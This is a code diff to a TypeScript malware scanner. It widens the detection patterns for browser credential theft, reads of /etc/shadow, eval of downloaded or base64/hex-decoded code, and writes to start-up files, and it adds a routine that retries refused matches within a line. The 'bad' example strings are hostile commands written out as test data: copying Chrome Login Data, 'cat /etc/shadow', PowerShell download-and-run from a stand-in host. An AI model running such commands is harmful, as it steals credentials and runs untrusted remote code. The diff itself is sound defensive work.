@@ -87,11 +87,12 @@ export const TEXT_PATTERNS: readonly TextPattern[] = [
     description: "reads browser cookies or saved passwords",
     confidence: "high",
     scope: "code",
-    keywords: ["google-chrome", "chromium", "bravesoftware", "google/chrome", "google\\chrome", "microsoft edge", "microsoft\\edge", "firefox", "login data", "cookies.sqlite", "logins.json", "key4.db", "getcookies", "getallcookies", "/etc/shadow", "keychain-db", "login.keychain"],
+    // Each separator the regex allows ([/\\]{1,2}): a Python string writes `Google\\Chrome`.
+    keywords: ["google-chrome", "chromium", "bravesoftware", "google/chrome", "google\\chrome", "google//chrome", "google\\\\chrome", "microsoft edge", "microsoft/edge", "microsoft\\edge", "microsoft//edge", "microsoft\\\\edge", "firefox", "login data", "cookies.sqlite", "logins.json", "key4.db", "getcookies", "getallcookies", "/etc/shadow", "keychain-db", "login.keychain"],
     regex: /(?:\.config[/\\](?:google-chrome|chromium|BraveSoftware)|Application Support[/\\](?:Google[/\\]Chrome|BraveSoftware|Microsoft Edge|Firefox)|AppData[/\\]{1,2}(?:Local|Roaming)[/\\]{1,2}(?:Google[/\\]{1,2}Chrome|Microsoft[/\\]{1,2}Edge|BraveSoftware|Mozilla[/\\]{1,2}Firefox)|\.mozilla[/\\]firefox)[/\\][^\n"'`]{0,200}?(?:Cookies|Login Data|cookies\.sqlite|logins\.json|key4\.db|Local State)\b|\b(?:Login Data|cookies\.sqlite|logins\.json|key4\.db)\b|\b((?:Network|Storage)\.get(?:All)?Cookies)\b|(\/etc\/(?:shadow|gshadow))\b|(login\.keychain(?:-db)?)\b/,
     label: (m) => (m[1] ? `CDP ${m[1]}` : m[2] ? "system password hashes" : m[3] ? "keychain file" : "browser cookies and saved passwords"),
     examples: {
-      bad: ['cp "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/', "sqlite3 ~/.mozilla/firefox/x.default/cookies.sqlite", "const { cookies } = await client.send('Network.getAllCookies');", "cat /etc/shadow"],
+      bad: ['cp "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/', "sqlite3 ~/.mozilla/firefox/x.default/cookies.sqlite", "const { cookies } = await client.send('Network.getAllCookies');", "cat /etc/shadow", 'shutil.copy("C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Network\\\\Cookies", "c.db")'],
       good: ["google-chrome --headless --dump-dom https://example.com", 'open -a "Google Chrome" index.html', "document.cookie = 'a=b'"],
     },
   },
@@ -163,11 +164,12 @@ export const TEXT_PATTERNS: readonly TextPattern[] = [
     confidence: "high",
     scope: "code",
     languages: CODE_LANGUAGES,
-    keywords: ["exec", "eval", "function(", "instance_eval", "iex", "invoke-expression"],
+    // Keywords of the download the regex requires (one per alternative): `Function (` and `eval  (` take any spaces.
+    keywords: ["requests.get", "httpx.get", "urlopen", "fetch", "axios.get", "uri.open", "net::http.get", "httparty.get", "file_get_contents", "lwp::simple::get", "iex", "invoke-expression"],
     regex: /\b(exec|eval|Function|instance_eval)\s{0,4}\(\s{0,4}(?:await\s{1,4})?\(?\s{0,4}(?:await\s{1,4})?(?:[\w.]{1,40}\(\s{0,4})?((?:requests|httpx)\.get|(?:[\w.]{0,40}\.)?urlopen|fetch|axios\.get|URI\.open|Net::HTTP\.get|HTTParty\.get|file_get_contents\s{0,4}\(\s{0,4}["']https?:|LWP::Simple::get)\s{0,4}\(|\b(iex|invoke-expression)\b[\s(]{0,8}(?:&\s{0,4})?\(?\s{0,8}(iwr|irm|invoke-webrequest|invoke-restmethod|new-object\s{1,8}(?:system\.)?net\.webclient|\[(?:system\.)?net\.webclient\])/i,
     label: (m) => (m[1] ? `${m[1]}(${m[2]!.replace(/^.*\.urlopen$/, "urlopen").replace(/\s*\(.*$/, "")}(…))` : `${m[3]!.toLowerCase()} (${m[4]!.toLowerCase().replace(/^new-object (?:system\.)?net\.webclient$/, "Net.WebClient")} …)`),
     examples: {
-      bad: ["exec(requests.get(URL).text)", "exec(urllib.request.urlopen(url).read())", "eval(await (await fetch(url)).text());", "iex (iwr https://x.example/i.ps1 -UseBasicParsing)", "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))", "eval(URI.open('https://x.example/a.rb').read)"],
+      bad: ["exec(requests.get(URL).text)", "exec(urllib.request.urlopen(url).read())", "eval(await (await fetch(url)).text());", "Function (await (await fetch(u)).text())();", "iex (iwr https://x.example/i.ps1 -UseBasicParsing)", "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/i.ps1'))", "eval(URI.open('https://x.example/a.rb').read)"],
       good: ["data = requests.get(URL).json()", "exec(open('local_setup.py').read())", "const res = await fetch(url);", "Invoke-Expression $command"],
     },
   },
@@ -179,11 +181,11 @@ export const TEXT_PATTERNS: readonly TextPattern[] = [
     confidence: "high",
     scope: "code",
     languages: CODE_LANGUAGES,
-    keywords: ["b64decode", "b32decode", "a85decode", "decodebytes", "unhexlify", "decompress", "fromhex", "atob", "base64_decode", "gzinflate", "str_rot13", "decode64", "frombase64string"],
+    keywords: ["b64decode", "b32decode", "a85decode", "decodebytes", "unhexlify", "decompress", "fromhex", "atob", "base64_decode", "gzinflate", "gzuncompress", "str_rot13", "hex2bin", "decode64", "frombase64string"],
     regex: /\b(exec|eval|Function|assert|instance_eval)\s{0,4}\(?\s{0,4}(?:[\w.:]{1,40}\(\s{0,4}){0,2}(?:[\w.:]{0,40}(?:\.|::))?(b64decode|b32decode|a85decode|decodebytes|unhexlify|decompress|fromhex|atob|base64_decode|gzinflate|gzuncompress|str_rot13|hex2bin|decode64|strict_decode64)\s{0,4}\(|FromBase64String[^\n]{0,300}?(?<![\w-])(iex|invoke-expression)\b|(?<![\w-])(iex|invoke-expression)\b[^\n]{0,300}?FromBase64String/i,
     label: (m) => (m[1] ? `${m[1]}(${m[2]}(…))` : `FromBase64String | ${(m[3] ?? m[4])!.toLowerCase()}`),
     examples: {
-      bad: ["exec(base64.b64decode(PAYLOAD))", "exec(zlib.decompress(base64.b64decode(p)))", "eval(atob(s))", "eval(gzinflate(base64_decode($p)));", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))"],
+      bad: ["exec(base64.b64decode(PAYLOAD))", "exec(zlib.decompress(base64.b64decode(p)))", "eval(atob(s))", "eval(gzinflate(base64_decode($p)));", 'eval(hex2bin("6563686f20686920"));', "eval(gzuncompress($p));", "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))"],
       good: ["raw = base64.b64decode(PAYLOAD)", "value = json.loads(base64.b64decode(s))", "$bytes = [Convert]::FromBase64String($cert)"],
     },
   },
@@ -195,10 +197,10 @@ export const TEXT_PATTERNS: readonly TextPattern[] = [
     confidence: "medium",
     scope: "code",
     languages: CODE_LANGUAGES,
-    keywords: [".bashrc", ".zshrc", ".bash_profile", ".zprofile", ".profile", "launchagents", "launchdaemons", "systemd", ".git/hooks", "crontab"],
+    keywords: [".bashrc", ".zshrc", ".bash_profile", ".zprofile", ".profile", "launchagents", "launchdaemons", "systemd", ".git/hooks", ".git\\hooks", "crontab", "cron.d"],
     regex: new RegExp(String.raw`${HOME}(?:\.(?:bashrc|bash_profile|zshrc|zprofile|profile)|Library[/\\]Launch(?:Agents|Daemons))\b|\.git[/\\]hooks[/\\][\w-]{1,40}|/etc/(?:systemd/system|cron\.d)/`),
     label: () => "start-up file",
-    examples: { bad: ["with open(os.path.expanduser('~/.zshrc'), 'a') as f:", "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), line)", "shutil.copy(src, '.git/hooks/pre-commit')"], good: ["print('add it to your shell profile')", "path = 'hooks/pre-commit'"] },
+    examples: { bad: ["with open(os.path.expanduser('~/.zshrc'), 'a') as f:", "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), line)", "shutil.copy(src, '.git/hooks/pre-commit')", 'shutil.copy("job", "/etc/cron.d/job")'], good: ["print('add it to your shell profile')", "path = 'hooks/pre-commit'"] },
   },
   {
     id: "run-as-admin-powershell",
@@ -250,12 +252,33 @@ export function scanText(text: string, start: number, end: number, scope: Patter
       const lineEnd = Math.min(end, lineEndNear(text, k.index, WINDOW));
       coveredUntil.set(pattern, lineEnd);
       const line = text.slice(lineStart, lineEnd);
-      const m = pattern.regex.exec(line);
-      if (!m) continue;
-      const offset = lineStart + m.index;
-      if (accept && !accept(offset, pattern)) continue;
-      hits.push({ pattern, offset, length: Math.max(1, m[0].length), label: pattern.label(m) });
+      const m = acceptedMatch(pattern, line, lineStart, accept);
+      if (m) hits.push({ pattern, offset: lineStart + m.index, length: Math.max(1, m[0].length), label: pattern.label(m) });
     }
   }
   return hits;
+}
+
+/** Matches of a pattern tried on one line after the first is refused (in a comment, in an excepted program's command): a bound, not a loop over a hostile line. */
+const MAX_REFUSED = 16;
+/** Each pattern's regex with the `g` flag, to go on from a refused match with the line's text before it still in view. */
+const ONWARD = new Map<TextPattern, RegExp>();
+
+/**
+ * The first match on the line that `accept` takes. A refused match does not end the line:
+ * `mkdir -p ~/.ssh && cp ~/.ssh/id_ed25519 /tmp/k` holds a match in `mkdir` (refused) and one in `cp`.
+ */
+function acceptedMatch(pattern: TextPattern, line: string, lineStart: number, accept: ((offset: number, pattern: TextPattern) => boolean) | undefined): RegExpExecArray | null {
+  const m = pattern.regex.exec(line);
+  if (!m || !accept || accept(lineStart + m.index, pattern)) return m;
+  let onward = ONWARD.get(pattern);
+  if (!onward) ONWARD.set(pattern, (onward = new RegExp(pattern.regex.source, `${pattern.regex.flags}g`)));
+  onward.lastIndex = m.index + Math.max(1, m[0].length);
+  for (let refused = 1; refused < MAX_REFUSED; refused++) {
+    const next = onward.exec(line);
+    if (!next) return null;
+    if (accept(lineStart + next.index, pattern)) return next;
+    onward.lastIndex = next.index + Math.max(1, next[0].length);
+  }
+  return null;
 }
